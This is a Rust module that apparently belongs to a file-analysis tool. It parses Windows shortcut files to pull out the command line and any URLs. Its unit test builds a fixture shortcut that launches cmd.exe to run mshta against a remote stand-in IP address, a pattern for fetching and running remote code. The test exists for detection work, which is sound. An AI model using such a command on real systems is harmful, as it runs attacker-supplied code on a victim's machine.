//! Shortcuts of Windows (MS-SHLLINK): what they start, with which arguments.

use crate::object::{PropertyKind, UrlSource};
use crate::text;
use crate::unpack::Unpacker;

const HAS_ID_LIST: u32 = 1;
const HAS_LINK_INFO: u32 = 1 << 1;
const IS_UNICODE: u32 = 1 << 7;
/// Strings in their order, by their flags: description, relative path, folder, arguments, icon.
const STRINGS: [u32; 5] = [1 << 2, 1 << 3, 1 << 4, 1 << 5, 1 << 6];

/// Notes the command line, and URLs in it.
pub(super) fn decode(bytes: &[u8], unpacker: &mut Unpacker<'_>) {
    let strings = read(bytes).unwrap_or_default();
    let [_, path, _, arguments, _] = &strings;
    let command = format!("{path} {arguments}");
    if !command.trim().is_empty() {
        unpacker.property(PropertyKind::CommandLine, command.trim());
    }
    for string in &strings {
        for at in string.match_indices("http").map(|(at, _)| at).take(16) {
            let end = |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ')' | ';');
            let url = string[at..].split(end).next().unwrap_or_default();
            if url.contains("://") {
                unpacker.url(url, UrlSource::Shortcut);
            }
        }
        unpacker.text(string);
    }
}

fn read(bytes: &[u8]) -> Option<[String; 5]> {
    let number = |at: usize, size: usize| -> Option<usize> {
        let bytes = bytes.get(at..at.checked_add(size)?)?;
        Some(bytes.iter().rev().fold(0usize, |n, &b| n << 8 | usize::from(b)))
    };
    let flags = u32::try_from(number(20, 4)?).ok()?;
    let mut at = 76;
    if flags & HAS_ID_LIST != 0 {
        at += number(at, 2)? + 2;
    }
    if flags & HAS_LINK_INFO != 0 {
        at += number(at, 4)?.max(4);
    }
    let mut strings: [String; 5] = Default::default();
    for (string, flag) in strings.iter_mut().zip(STRINGS) {
        if flags & flag == 0 {
            continue;
        }
        let length = number(at, 2)? * if flags & IS_UNICODE != 0 { 2 } else { 1 };
        let body = bytes.get(at + 2..(at + 2 + length).min(bytes.len()))?;
        *string = if flags & IS_UNICODE != 0 { text::utf16_le(body) } else { text::decode(body) };
        at += 2 + length;
    }
    Some(strings)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::formats::testing::{nasty, tree};

    #[test]
    fn path_and_arguments() {
        let mut whole = b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46".to_vec();
        whole.extend((STRINGS[1] | STRINGS[3] | IS_UNICODE).to_le_bytes());
        whole.resize(76, 0);
        for string in ["..\\cmd.exe", "/c mshta http://198.51.100.7/a"] {
            whole.extend(u16::try_from(string.len()).unwrap().to_le_bytes());
            whole.extend(string.bytes().flat_map(|b| [b, 0]));
        }
        let found = tree(&whole, "a.lnk");
        let object = &found.objects[0];
        assert_eq!(object.properties[0].detail, "..\\cmd.exe /c mshta http://198.51.100.7/a");
        assert_eq!(object.urls[0].url, "http://198.51.100.7/a");
        nasty(&whole, "a.lnk");
    }
}
